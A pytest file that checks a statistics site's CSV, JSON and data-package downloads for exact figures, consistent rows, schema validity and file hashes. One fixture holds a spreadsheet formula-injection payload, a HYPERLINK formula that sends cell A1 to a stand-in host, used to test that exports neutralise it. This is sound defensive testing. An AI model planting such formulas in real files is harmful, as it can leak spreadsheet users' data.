"""The programs that people open figures with read the same numbers as the page, and complain of nothing."""

import csv
import hashlib
import io
import json
from collections import Counter
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import frictionless
import pandas
import pytest

from publishing.clock import from_text
from publishing.downloads import files
from publishing.downloads.as_csv import as_csv
from publishing.downloads.as_json import as_json
from publishing.downloads.data_package import data_package
from publishing.downloads.days import first_day
from publishing.measures.published import Published, Shown
from publishing.reading import read_site
from publishing.site import Site
from tests.measures import BY_RISK, published
from tests.project import ROOT

HOSTILE = '=HYPERLINK("https://www.example.org/?"&A1,"Medway, 1\r\n2")'
NASTY = f"{BY_RISK}values: {{2016-17: {{High: -39, Low: 45.60}}, 2017-18: {{High: suppressed, Low: 0}}}}"


@pytest.fixture(scope="module")
def site() -> Site:
    return read_site(ROOT, from_text("2026-12-01"))[0]


@pytest.fixture(scope="module")
def folder(site: Site, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of the real site, as a person has them who took them all."""
    return saved(files(site), tmp_path_factory.mktemp("taken"))


@pytest.fixture
def hostile() -> Published:
    """A measure whose every word is a formula with a comma, quotation marks and a line break in it."""
    one = published(NASTY, kind="money")
    bad = dict.fromkeys(("title", "definition", "unit", "area"), HOSTILE)
    source = one.measure.source.model_copy(update={"document": HOSTILE, "where": HOSTILE})
    division = one.measure.by[0].model_copy(update={"name": HOSTILE})
    measure = one.measure.model_copy(update={**bad, "source": source, "by": (division,), "caveats": (HOSTILE,)})
    return Published(one.id, measure, one.periods, one.shown)


def saved(made: dict[str, bytes], folder: Path) -> Path:
    for address, content in made.items():
        (folder / address).parent.mkdir(exist_ok=True)
        (folder / address).write_bytes(content)
    return folder / "numbers"


def complaints(package: Path) -> list[str]:
    report = frictionless.validate(package / "datapackage.json")
    said = [f"{task.name}: {error.message}" for task in report.tasks for error in task.errors]
    return [
        *said,
        *(error.message for error in report.errors),
        *report.warnings,
        *(each for task in report.tasks for each in task.warnings),
    ]


def shown(one: Published) -> Counter[str]:
    """Every number that may be shown, also those of elsewhere, to its last digit."""
    every = [*one.shown.values(), *one.compared.values()]
    return Counter(str(each.amount.number) for each in every if each.amount.number is not None)


def read_by_csv(path: Path) -> Iterator[Decimal]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        yield from (Decimal(row["value"]) for row in csv.DictReader(file, strict=True) if row["value"])


def read_by_pandas(path: Path) -> Iterator[Decimal]:
    yield from pandas.read_csv(path, dtype={"value": str})["value"].dropna().map(Decimal)


def read_from_json(path: Path) -> Iterator[Decimal]:
    told = json.loads(path.with_suffix(".json").read_text(encoding="utf-8"), parse_float=Decimal, parse_int=Decimal)
    every = [*told["figures"], *told.get("compared_with", [])]
    yield from (one["value"] for one in every if one["value"] is not None)


@pytest.mark.parametrize("reader", [read_by_csv, read_by_pandas, read_from_json])
def test_a_reader_gets_each_number_to_the_last_digit(reader: Any, site: Site, folder: Path) -> None:
    other = [id for id, one in site.numbers.items() if Counter(map(str, reader(folder / f"{id}.csv"))) != shown(one)]

    assert site.numbers
    assert other == []


def test_each_number_stands_in_its_own_row(site: Site, folder: Path) -> None:
    for id, one in site.numbers.items():
        with (folder / f"{id}.csv").open(encoding="utf-8-sig", newline="") as file:
            found = [(row["period_starts"], row["area"], row["value"]) for row in csv.DictReader(file)]
        assert found == expected(one), id


def expected(one: Published) -> list[tuple[str, str, str]]:
    """By period and part in the order of the table, then whoever it is compared with."""
    own = [
        (first_day(when).isoformat(), one.measure.area, digits(each))
        for when in one.periods
        for parts in one.columns
        if (each := one.shown.get((when.id, parts)))
    ]
    others = [
        (first_day(when).isoformat(), whose, digits(one.compared[whose, when.id]))
        for whose in dict.fromkeys(name for name, _ in one.compared)
        for when in one.periods
        if (whose, when.id) in one.compared
    ]
    return own + others


def digits(one: Shown) -> str:
    return str(one.amount.number) if one.amount.number is not None else ""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_pandas_reads_numbers_as_numbers_and_days_as_days(encoding: str, site: Site, folder: Path) -> None:
    kinds = Counter()
    for id in site.numbers:
        read = pandas.read_csv(folder / f"{id}.csv", encoding=encoding, parse_dates=["period_starts", "period_ends"])
        kinds[read.columns[0], read["value"].dtype.kind in "if", read["period_ends"].dtype.kind] += 1

    assert list(kinds) == [("measure", True, "M")]


def test_no_line_of_any_file_is_longer_or_shorter_than_its_head(site: Site, folder: Path) -> None:
    for id in site.numbers:
        with (folder / f"{id}.csv").open(encoding="utf-8-sig", newline="") as file:
            assert {len(row) for row in csv.reader(file, strict=True)} == {len(head(folder / f"{id}.csv"))}, id


def head(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8-sig").partition("\n")[0].split(",")


def test_the_validator_of_data_packages_finds_nothing_to_say(folder: Path) -> None:
    assert complaints(folder) == []


def test_the_description_names_every_file_of_figures(folder: Path) -> None:
    told = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    there = {path.name for path in folder.iterdir()} - {"datapackage.json", "licence.txt"}

    assert {one["path"] for one in told} == there


def test_a_changed_number_is_seen_by_the_validator(folder: Path, tmp_path: Path) -> None:
    copy = saved({f"numbers/{path.name}": path.read_bytes() for path in folder.iterdir()}, tmp_path)
    table = copy / "missing-incidents.csv"
    table.write_bytes(table.read_bytes().replace(b",169,", b",170,"))

    assert [said for said in complaints(copy) if said.startswith("missing-incidents:")] != []


def test_the_description_fits_the_table(folder: Path) -> None:
    assert judged(folder, b"", b"")


@pytest.mark.parametrize(
    ("slip", "instead"),
    [
        pytest.param(b",169,", b",many,", id="a word for a number"),
        pytest.param(b",169,", b",-169,", id="less than nothing"),
        pytest.param(b"2018-03-31", b"31/03/2018", id="a day the other way round"),
        pytest.param(b"not available", b"lost", id="a reason that nobody knows"),
        pytest.param(b",March 2018,", b",February 2018,", id="a month twice"),
        pytest.param(b",Medway,", b",,", id="no area"),
    ],
)
def test_the_description_says_what_may_stand_in_each_column(slip: bytes, instead: bytes, folder: Path) -> None:
    assert not judged(folder, slip, instead)


def judged(folder: Path, slip: bytes, instead: bytes) -> bool:
    """Whether the table of missing children is what its description says, by each column alone."""
    told = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    [schema] = [one["schema"] for one in told if one["path"] == "missing-incidents.csv"]
    table = (folder / "missing-incidents.csv").read_bytes()
    assert slip in table
    changed = table.replace(slip, instead)
    described = frictionless.Schema.from_descriptor(schema)
    return frictionless.Resource(changed, format="csv", encoding="utf-8", schema=described).validate().valid


def test_words_that_would_run_in_a_spreadsheet_are_only_words(hostile: Published) -> None:
    read = list(csv.reader(io.StringIO(as_csv(hostile).decode("utf-8-sig"), newline=""), strict=True))
    cells = [cell for row in read for cell in row]

    assert {len(row) for row in read} == {len(read[0])}
    assert [cell for cell in cells if cell[:1] in "=+@" and cell] == []
    assert [cell for cell in cells if cell.startswith("-")] == ["-39"]


def test_words_that_would_run_do_not_break_the_description(hostile: Published, site: Site, tmp_path: Path) -> None:
    made = {f"{hostile.id}.csv": as_csv(hostile), f"{hostile.id}.json": as_json(hostile, site.board)}
    made["datapackage.json"] = data_package([hostile], made, site.board)

    assert complaints(saved({f"numbers/{name}": content for name, content in made.items()}, tmp_path)) == []


def test_the_site_has_the_files_that_were_described(site_folder: Path) -> None:
    folder = site_folder / "numbers"
    told = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    found = {one["path"]: (folder / one["path"]).read_bytes() for one in told}

    assert [one["path"] for one in told if one["bytes"] != len(found[one["path"]])] == []
    assert [one["path"] for one in told if one["hash"] != f"sha256:{sha256(found[one['path']])}"] == []


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()
